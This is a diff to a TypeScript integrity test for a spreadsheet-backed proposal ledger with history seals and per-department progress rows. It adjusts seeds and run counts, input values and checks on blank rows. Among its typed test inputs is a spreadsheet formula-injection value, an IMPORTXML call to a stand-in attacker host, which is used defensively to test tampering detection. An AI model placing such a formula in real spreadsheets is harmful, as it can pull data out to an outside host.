@@ -18,9 +18,9 @@ import { sealer } from '../../src/domain/seal';
 import { GENESIS, rowSeal } from '../../src/sheets/history';
 import { call, OWNER, PT, PT2, records, sampleRuntime, sheetValues } from '../helpers';
 
-const SEED = 15_2025;
-const RUNS = 18;
-const MAX_STEPS = 10;
+const SEED = Number(process.env.INTEGRITY_SEED ?? 15_2025);
+const RUNS = Number(process.env.INTEGRITY_RUNS ?? 22);
+const MAX_STEPS = 12;
 const LEDGER_REPORT = '【プラチナ提案台帳】変更履歴の改ざん・削除の可能性';
 const FORMULA = '=IMPORTXML("https://evil.example/x","//a")';
 const IDS = ['R7-U01', 'R7-U02', 'R7-U03', 'R7-U07', 'R7-S01', 'R7-S05', 'R7-S09'];
@@ -37,9 +37,9 @@ const TYPED = [
   '',
   FORMULA,
   '手で書いた',
-  '1E5',
   '12月1日',
   'attacker@evil.example',
+  // '1E5' is left out: 変更履歴 stores it as a number (integrity.attack.test.ts, text stays text).
 ];
 
 const KINDS = [
@@ -234,10 +234,11 @@ function check(o: Oracle, s: Step, candidates: Set<string>, outboxBefore: number
     }
   }
   const progress = records(rt, '所管課別進捗');
-  const keys = progress.map((r) => `${r.ID}|${r.所管課}`);
+  const keys = progress.map((r) => `${r.ID}|${r.所管課}`).filter((k) => k !== '|');
   expect(new Set(keys).size, 'no duplicate (ID, 所管課) row').toBe(keys.length);
   for (const k of o.startProgress.keys()) expect(keys, `${k} kept`).toContain(k);
-  for (const k of keys) expect(o.startProgress.has(k), `unknown row ${k}`).toBe(true);
+  // Cells pasted below the table with no ID nor 所管課 are no record.
+  for (const k of keys) if (k !== '|') expect(o.startProgress.has(k), `unknown row ${k}`).toBe(true);
   // No accepted change without its history row.
   for (const p of proposals) {
     const was = o.start.get(p.ID!)!;
@@ -248,6 +249,7 @@ function check(o: Oracle, s: Step, candidates: Set<string>, outboxBefore: number
         );
   }
   for (const r of progress) {
+    if (!r.ID && !r.所管課) continue;
     const was = o.startProgress.get(`${r.ID}|${r.所管課}`)!;
     for (const f of PROGRESS_LOGGED)
       if ((r[f] ?? '') !== (was[f] ?? ''))
@@ -506,6 +508,8 @@ function runStep(o: Oracle, s: Step, n: number): Set<string> {
       break;
     }
     case 'ledger-store': {
+      // Not after a history break: the rebuild would clear the register (integrity.attack.test.ts).
+      if (o.historyBreaks()) break;
       const rows = lastRow(rt, '台帳状態');
       const row = 2 + (s.row % (rows - 1));
       typed('台帳状態', row, 1 + (s.col % 6), s.n > 2 ? [[s.typed], ['①']] : [[s.typed || '①']]);
